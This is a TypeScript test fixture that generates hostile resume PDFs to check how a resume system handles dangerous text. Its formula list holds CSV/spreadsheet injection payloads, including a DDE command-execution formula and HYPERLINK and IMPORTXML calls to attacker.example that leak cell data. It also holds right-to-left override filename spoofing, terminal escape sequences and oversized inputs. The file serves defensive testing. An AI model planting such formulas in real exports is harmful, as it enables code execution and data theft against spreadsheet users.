/** Readable resumes with hostile text, for lists, exports, logs and terminals. */
import { pdfOf, textObjects } from '#tests/resume-pdf.ts';
import { PAYLOADS } from '#tests/xss-payloads.ts';
import type { HostileResume } from './hostile-resume.ts';

/** Longest line in characters; the start of a payload is as hostile as all of it. */
const LONGEST = 500;

const saying = (name: string, lines: string[], text: string): HostileResume => ({
  name,
  bytes: () => pdfOf(textObjects(lines)),
  text,
});

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.example/?"&A1,"Error")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '=1+1',
  '\t=1+1',
  '=IMPORTXML("https://attacker.example","//a")',
  '%0A=1+1',
  '";=1+1;"',
];

/** Left-to-right scripts with characters of one code unit: the test font has no others. */
const SCRIPTS = ['काठमाडौं विश्वविद्यालय', 'क्ष त्र ज्ञ श्री', '北京大学', 'Ελλάδα', 'Đặng Thị'];

const ODD: Record<string, [lines: string[], text: string]> = {
  'text that turns its direction': [['abc\u202egnp.exe'], 'abcgnp.exe'],
  'isolates and marks': [['a\u2066b\u2069c\u200ed\u061ce'], 'abcde'],
  NULs: [['a\u0000b\u0000'], 'ab'],
  'controls of a terminal': [['\u001b[2J\u001b]0;x\u0007y'], '[2J]0;xy'],
  'halves of characters': [['a\ud800b'], 'b'],
  'letters of an icon font': [['a\ue000\uf8ffb'], 'ab'],
  'a byte order mark': [['\ufeffa\ufffeb'], 'ab'],
  'a word of 60,000 letters, most of them beside the page': [['x'.repeat(60_000)], 'x'.repeat(80)],
  '2,000 lines, most of them below the page': [
    Array.from({ length: 2000 }, (_, n) => `line${n}`),
    'line42',
  ],
  'fifty marks upon a letter': [[`a${'\u0301'.repeat(50)}`], '\u0301'],
  'different words without end': [
    Array.from({ length: 3000 }, (_, n) => `w${n}a w${n}b w${n}c w${n}d w${n}e`),
    'w1a',
  ],
};

export const TEXTS: readonly HostileResume[] = [
  ...FORMULAS.map((text) => saying(`the formula ${JSON.stringify(text)}`, [text], text.trim())),
  ...SCRIPTS.map((text) => saying(`text of its own script, ${text}`, [text], text.slice(0, 2))),
  ...Object.entries(ODD).map(([name, [lines, text]]) => saying(name, lines, text)),
];

/** @param count at most the number of payloads */
export const markup = (count: number): HostileResume[] =>
  PAYLOADS.slice(0, count).map((payload, index) =>
    saying(`markup ${index}`, [`Marker ${index}`, payload.slice(0, LONGEST)], `Marker ${index}`),
  );
